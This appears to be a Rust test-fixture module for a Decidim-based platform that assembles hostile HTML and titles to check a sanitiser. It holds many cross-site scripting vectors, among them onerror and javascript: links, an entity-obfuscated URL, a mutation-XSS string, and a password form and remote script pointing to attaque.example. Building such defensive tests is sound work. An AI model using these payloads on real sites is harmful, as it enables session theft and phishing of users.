//! What people paste into a platform's editor, and what those who attack it do. Every script would
//! set `window.hostile`; every address ends in `example`, which no host has (RFC 2606).

use super::texts::{Text, fr};

/// An administrator's text with everything in it that must not reach a page.
pub(super) fn html() -> Text {
    fr(concat!(
        "<p>Avant</p>",
        "<script>window.hostile = 'script'</script>",
        "<ScRiPt src=\"https://attaque.example/x.js\"></ScRiPt>",
        "<img src=x onerror=\"window.hostile='onerror'\">",
        "<svg><script>window.hostile='svg'</script><a xlink:href=\"javascript:window.hostile='xlink'\"><text>lien</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hostile='mutation'&gt;\">",
        "<a href=\"javascript:window.hostile='href'\">un</a> ",
        "<a href=\" &#106;ava\tscript:window.hostile='entity'\">deux</a> ",
        "<a href=\"data:text/html,<script>window.hostile='data'</script>\">trois</a> ",
        "<a href=\"vbscript:x\">quatre</a> ",
        "<a href=\"https://attaque.example/\" onclick=\"window.hostile='onclick'\" style=\"position:fixed;inset:0\">cinq</a> ",
        "<a href=\"//attaque.example/sans-schema\">six</a> ",
        "<a href=\"/processes/texte-hostile\">interne</a>",
        "<p>gid://exemple/Decidim::Hashtag/3/parking et gid://exemple/Decidim::User/12</p>",
        "<p><img src=\"/uploads/decidim/attachment/relative.png\" alt=\"\"> <img src=\"https://pistage.example/pixel.gif\" width=\"1\" height=\"1\">",
        "<img src=\"relative-sans-barre.png\" alt=\"Plan\"></p>",
        "<iframe src=\"https://attaque.example/\" srcdoc=\"<script>parent.hostile='iframe'</script>\"></iframe>",
        "<form action=\"https://attaque.example/\"><input name=\"mot-de-passe\"><button>Envoyer</button></form>",
        "<style>*{display:none}</style><link rel=\"stylesheet\" href=\"https://attaque.example/x.css\">",
        "<base href=\"https://attaque.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://attaque.example/\">",
        "<object data=\"https://attaque.example/x.swf\"></object><template><script>window.hostile='template'</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.hostile='noscript'>\"></noscript>",
        "<p>Après <b>gras <i>ouvert",
    ))
    .nl("<p>Veilig <b>Nederlands</b></p>")
}

/// A title with markup, control and direction characters in it.
pub(super) fn title() -> Text {
    fr("Titre <b>hostile</b> \"><script>window.hostile='title'</script> \u{202e}à l'envers\u{202c} \u{0}fin")
        .nl("Vijandige <i>titel</i> &amp; meer")
}
